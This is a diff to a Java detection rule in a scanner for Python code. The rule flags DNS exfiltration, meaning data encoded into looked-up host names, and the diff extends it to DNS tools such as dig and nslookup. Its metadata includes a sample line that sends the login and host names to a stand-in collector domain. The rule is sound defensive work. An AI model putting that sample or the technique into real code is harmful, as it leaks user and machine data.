@@ -18,7 +18,8 @@ import java.util.Set;
 public final class DnsExfilRule implements PythonFileRule {
 
     private static final RuleInfo INFO = new RuleInfo("KS-NET-DNS-EXFIL",
-            "Looks up a DNS name built at run time under a fixed domain (data leaves in the host name)",
+            "Looks up a DNS name built at run time under a fixed domain (data leaves in the host name), through "
+                    + "a resolver call or a DNS tool run as a process (dig, nslookup, host, ping)",
             Severity.MEDIUM, Confidence.MEDIUM, Set.of(Tags.NETWORK, Tags.EXFILTRATION),
             "socket.gethostbyname(f'{os.getlogin()}.{socket.gethostname()}.collect.example.invalid')",
             "Resolving a host name held in a variable is normal and not reported; only names assembled from values "
@@ -36,6 +37,28 @@ public final class DnsExfilRule implements PythonFileRule {
                 && !t.matches("(?s).*\\.(local|localdomain|lan|internal|home|cluster\\.local|svc)\\.?$");
     }
 
+    /**
+     * The host name a DNS-capable call looks up when it is built from values under a fixed domain: the
+     * first argument of a resolver call, or the argument of a DNS tool run as a process
+     * ({@code dig}, {@code nslookup}, {@code host}, {@code ping} with {@code f"{data}.x.example.invalid"}).
+     */
+    static Optional<Expr> lookedUpName(CodeFacts facts, CodeFacts.CallFact c) {
+        if (c.is(Capability.PROCESS)) {
+            for (Expr a : Capability.commandParts(c.call())) {
+                if (!(a instanceof Expr.Literal) && dataUnderFixedDomain(facts, a)) {
+                    return Optional.of(a);
+                }
+            }
+            return Optional.empty();
+        }
+        Optional<Expr> host = c.call().arg(0);
+        if (host.isEmpty() || !(host.get() instanceof Expr.FString || host.get() instanceof Expr.BinOp
+                || host.get() instanceof Expr.Call) || facts.file().constant(host.get()).isPresent()) {
+            return Optional.empty();
+        }
+        return dataUnderFixedDomain(facts, host.get()) ? host : Optional.empty();
+    }
+
     @Override
     public RuleInfo info() {
         return INFO;
@@ -51,12 +74,7 @@ public final class DnsExfilRule implements PythonFileRule {
             if (!c.is(Capability.DNS)) {
                 continue;
             }
-            Optional<Expr> host = c.call().arg(0);
-            if (host.isEmpty() || !(host.get() instanceof Expr.FString || host.get() instanceof Expr.BinOp
-                    || host.get() instanceof Expr.Call) || facts.file().constant(host.get()).isPresent()) {
-                continue;
-            }
-            if (!dataUnderFixedDomain(facts, host.get())) {
+            if (lookedUpName(facts, c).isEmpty()) {
                 continue;
             }
             boolean sourced = facts.scopeHas(c.scope(), Capability.FINGERPRINT)
